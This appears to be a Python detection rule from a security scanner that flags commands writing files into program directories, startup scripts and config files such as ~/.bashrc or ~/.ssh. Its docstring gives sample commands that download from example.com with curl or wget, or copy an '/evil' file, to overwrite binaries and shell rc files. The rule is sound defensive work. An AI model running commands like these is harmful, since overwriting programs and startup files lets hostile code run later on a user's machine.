"""A file is put where programs are kept or started from.

Whoever writes into a folder on the search path, or into a file that a shell or a client reads at its start, decides
what runs the next time, for every program of this person.

Flags:
    PATH-WRITE           docker cp x:/evil /usr/local/bin/npx
    PATH-WRITE           curl -o /usr/local/bin/node https://example.com/x
    PATH-WRITE           wget -O /home/me/.bashrc https://example.com/x
    PATH-WRITE warn      sort -o /srv/notes.txt a
Passes:
    docker cp /srv/a notes:/usr/local/bin/npx
    npx -y notes-mcp -o /usr/local/bin/npx
    curl -o - https://example.com
Source: GTFOBins, function "file-write".
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from consentry.effects import Effect
from consentry.model import Finding, Level
from consentry.rules.interface import Case, Wording, every, on_part

IDS: tuple[str, ...] = ("PATH-WRITE",)

WRITE = Wording(
    id="PATH-WRITE",
    level=Level.DANGER,
    title="Overwrites programs",
    says="This writes into a place from which programs are started. What is written there runs later.",
    consequence="Replaces a program that others use.",
    phrase="replace my programs",
)
FILE = Wording(
    id="PATH-WRITE",
    level=Level.WARN,
    title="Writes a file",
    says="This writes a file on your computer before any server runs.",
    consequence="Writes a file on your computer.",
)
_PROGRAMS = re.compile(
    r"(?:.*/)?(?:s?bin|lib(?:32|64|exec)?|node_modules|site-packages|cron[\w.-]*|launchagents|launchdaemons|autostart|"
    r"startup|systemd|init\.d|profile\.d|rc\.d|system32|windows|program files[^/]*|\.ssh|\.git|\.config|\.local|"
    r"\.cursor|\.claude|\.vscode|\.docker|\.kube|etc)(?:/.*)?"
    r"|(?:.*/)?\.(?:bash\w*|zsh\w*|z?profile|zlogin|zshenv|kshrc|xinitrc|xprofile|npmrc|pypirc|netrc|gitconfig|"
    r"vimrc|inputrc|mcp\.json)",
    re.IGNORECASE,
)
_STARTED = re.compile(r".*\.(?:exe|dll|so|dylib|bat|cmd|ps1|sh|scr|com|vbs|js|jar|py)", re.IGNORECASE)


def check(case: Case, /) -> Iterator[Finding]:
    """Findings about files that an option makes a tool write."""
    for part in every(case.plan):
        if part.effect == Effect.WRITES and part.detail:
            path = part.detail.replace("\\", "/")[:4_096]
            heavy = _PROGRAMS.fullmatch(path) or _STARTED.fullmatch(path)
            yield on_part(WRITE if heavy else FILE, case, part)
